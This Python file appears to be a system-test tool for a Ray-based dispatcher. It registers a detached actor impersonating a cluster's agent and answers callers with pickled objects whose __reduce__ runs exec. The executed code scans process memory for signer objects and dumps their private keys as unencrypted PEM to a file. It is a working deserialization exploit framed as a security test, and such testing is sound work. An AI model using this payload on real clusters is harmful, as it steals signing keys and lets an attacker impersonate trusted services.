"""What whoever runs code in a Ray worker can do to those who ask him: objects that run code where they are unpickled.

python -m tests.system.hostile_actors ADDRESS FILE CLUSTER     # needs Ray's token

In the place of the agent of CLUSTER. Each time that such code runs it adds a line of JSON to FILE: in
which process, by what, and which signing key it found there, PEM.
"""

import sys
from typing import Any

import ray

NAMESPACE = "global-dispatcher"
_CODE = """
import gc, json, os
from cryptography.hazmat.primitives.serialization import Encoding, NoEncryption, PrivateFormat
gc.unfreeze()
signers = [one for one in gc.get_objects() if type(one).__name__ == "Signer"]
form = Encoding.PEM, PrivateFormat.PKCS8, NoEncryption()
keys = [one._signing.key.private_bytes(*form).decode() for one in signers if one._signing]
line = json.dumps({"by": %r, "pid": os.getpid(), "keys": keys})
open(%r, "a").write(line + chr(10))
"""


class Payload:
    """Runs code in whoever unpickles it."""

    def __init__(self, by: str, file: str) -> None:
        self._code = _CODE % (by, file)

    def __reduce__(self) -> tuple[Any, ...]:
        return exec, (self._code, {})


def hostile_class(file: str) -> type:
    """Of an actor that answers all with payloads, and is one itself: a handle of it unpickles its class."""

    class Hostile:
        trap = Payload("class", file)

        async def hello(self) -> Payload:
            return Payload("hello", file)

    return Hostile


def main(address: str, file: str, cluster: str) -> None:
    """Put the actor there, and leave."""
    ray.init(address=address, namespace=NAMESPACE, log_to_driver=False, logging_level="ERROR")
    name = f"agent:{cluster}"
    made = ray.remote(hostile_class(file)).options(name=name, namespace=NAMESPACE, lifetime="detached", num_cpus=0)
    ray.wait([made.remote().hello.remote()], timeout=60)


if __name__ == "__main__":
    main(*sys.argv[1:])
